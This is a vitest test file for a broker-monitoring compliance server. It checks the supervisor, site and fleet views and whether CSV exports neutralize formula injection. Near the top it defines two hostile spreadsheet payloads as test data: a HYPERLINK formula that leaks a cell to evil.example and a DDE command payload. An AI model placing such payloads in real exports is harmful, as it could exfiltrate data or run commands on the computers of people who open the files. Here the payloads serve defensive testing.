/** Broker view, site view, fleet health and CSV exports with formula injection neutralized (issue #3). */
import { parseCsv as parse } from './helpers/parse-csv';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralizeCell } from '../../server/review/csv';
import { startReviewWorld, type ReviewWorld } from './helpers/review-world';

const HOSTILE_HOST = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const HOSTILE_JUSTIFICATION = '+cmd|" /C calc"!A0';

describe('supervisor views and exports', () => {
  let w: ReviewWorld;
  beforeAll(async () => {
    w = await startReviewWorld();
    const ssn = (fingerprint: string) => ({ type: 'US_SSN' as const, masked: '***-**-6789', fingerprint, detector: 'ssn', score: 0.95, evidence: { context: [] } });
    await w.send(w.deviceA, [
      { kind: 'paste.blocked', findings: [ssn('a'.repeat(32))], site: { host: 'mail.personal.test', status: 'unapproved' } },
      { kind: 'paste.blocked', findings: [ssn('a'.repeat(32))], site: { host: 'chat.other.test', status: 'unapproved' } },
      { kind: 'paste.overridden', action: 'warn', findings: [ssn('b'.repeat(32))], justification: HOSTILE_JUSTIFICATION, site: { host: HOSTILE_HOST, status: 'unapproved' } },
      { kind: 'paste.warned', action: 'warn', site: { host: 'crm.firm.test', status: 'approved' } },
    ]);
    await w.send(w.deviceB, [{ kind: 'paste.blocked', site: { host: 'mail.personal.test', status: 'unapproved' } }]);
  }, 60_000);
  afterAll(async () => w?.close());

  it('broker view: events by day, repeat fingerprints (same keyed fingerprint again and again) and open items', async () => {
    const view = (await w.supervisorA.get(`/admin/api/brokers/${w.brokerA}/overview`)).json();
    expect(view.broker).toMatchObject({ name: 'Alice Archer', crdNumber: '1234567', groups: ['Boston branch'] });
    expect(view.eventsByDay).toEqual([{ day: new Date().toISOString().slice(0, 10), blocked: 2, warned: 1, overridden: 1 }]);
    expect(view.repeats).toEqual([expect.objectContaining({ fingerprint: 'aaaaaaaaaaaa', type: 'US_SSN', events: 2, sites: ['chat.other.test', 'mail.personal.test'] })]);
    expect(view.open.items).toBe(4);
    expect((await w.supervisorB.get(`/admin/api/brokers/${w.brokerA}/overview`)).statusCode).toBe(404);
  });

  it('site view: top unapproved destinations by count with their brokers, scoped', async () => {
    const { sites } = (await w.admin.get('/admin/api/sites')).json();
    expect(sites.map((site: { host: string; events: number; brokers: number }) => [site.host, site.events, site.brokers])).toEqual([
      ['mail.personal.test', 2, 2],
      [HOSTILE_HOST, 1, 1],
      ['chat.other.test', 1, 1],
    ]);
    const scoped = (await w.supervisorB.get('/admin/api/sites')).json().sites;
    expect(scoped).toEqual([expect.objectContaining({ host: 'mail.personal.test', events: 1, brokerNames: ['Bob Baker'] })]);
    expect((await w.admin.get('/admin/api/sites?status=approved')).json().sites.map((site: { host: string }) => site.host)).toEqual(['crm.firm.test']);
  });

  it('fleet health: silent devices, old versions, growing queues and chain conflicts', async () => {
    const heartbeat = async (device: typeof w.deviceA, body: Partial<ReturnType<typeof w.deviceA.heartbeat>>) => {
      const signed = await device.signedPost({ ...device.heartbeat(), ...body });
      expect((await w.app.inject({ method: 'POST', url: '/v1/heartbeat', payload: signed.body, headers: signed.headers })).statusCode).toBe(200);
    };
    await heartbeat(w.deviceA, { extensionVersion: '0.9.0', queueDepth: 10, oldestUnsentAgeSeconds: 7200 });
    await heartbeat(w.deviceA, { extensionVersion: '0.9.0', queueDepth: 40, oldestUnsentAgeSeconds: 9000 });
    await heartbeat(w.deviceB, { extensionVersion: '0.10.0', policyVersion: 'firm-2026-12' });
    const gap = (await w.deviceB.nextRecords(3)).slice(2); // seq skips ahead: a gap
    const signed = await w.deviceB.signedPost({ deviceId: w.deviceB.deviceId, records: gap });
    expect((await w.app.inject({ method: 'POST', url: '/v1/events', payload: signed.body, headers: signed.headers })).statusCode).toBe(409);

    const fleet = (await w.admin.get('/admin/api/fleet')).json();
    expect(fleet).toMatchObject({ newestExtension: '0.10.0', newestPolicy: 'firm-2026-12' });
    const byName = Object.fromEntries(fleet.devices.map((device: { broker: string; problems: string[] }) => [device.broker, device.problems]));
    expect(byName['Alice Archer']).toEqual(['old_extension', 'old_policy', 'growing_queue']);
    expect(byName['Bob Baker']).toEqual(['chain_conflicts']);
    const silent = (await w.admin.get('/admin/api/fleet?silentHours=1')).json().devices;
    expect(silent).toHaveLength(2);
    const scoped = (await w.supervisorB.get('/admin/api/fleet?problemsOnly=true')).json().devices;
    expect(scoped.map((device: { broker: string }) => device.broker)).toEqual(['Bob Baker']);
  });

  it.each([
    ['=1+2', "'=1+2"], ['+1', "'+1"], ['-1', "'-1"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\rx', "'\rx"], ['mail.personal.test', 'mail.personal.test'], ['a=b', 'a=b'],
  ])('neutralizes the cell %j', (cell, expected) => {
    expect(neutralizeCell(cell)).toBe(expected);
  });

  it('security: CSV exports of queue, broker, sites and fleet never start a cell with a formula character', async () => {
    const queue = await w.admin.get('/admin/api/queue?format=csv');
    expect(queue.headers['content-type']).toContain('text/csv');
    const rows: string[][] = parse(queue.body);
    expect(rows[0]).toContain('justification');
    const hostile = rows.find((row) => row.includes(`'${HOSTILE_HOST}`))!;
    expect(hostile).toContain(`'${HOSTILE_JUSTIFICATION}`);
    expect(rows).toHaveLength(6); // header + 5 events
    const exports = [queue, await w.admin.get(`/admin/api/brokers/${w.brokerA}/overview?format=csv`), await w.admin.get('/admin/api/sites?format=csv'), await w.admin.get('/admin/api/fleet?format=csv')];
    for (const response of exports) {
      expect(response.statusCode).toBe(200);
      for (const row of parse(response.body) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect((parse(exports[2]!.body) as string[][]).map((row) => row[0])).toContain(`'${HOSTILE_HOST}`);
    const days = parse((await w.admin.get(`/admin/api/brokers/${w.brokerA}/overview?format=csv&section=days`)).body);
    expect(days).toEqual([['broker', 'day', 'blocked', 'warned', 'overridden'], ['Alice Archer', new Date().toISOString().slice(0, 10), '2', '1', '1']]);
  });
});
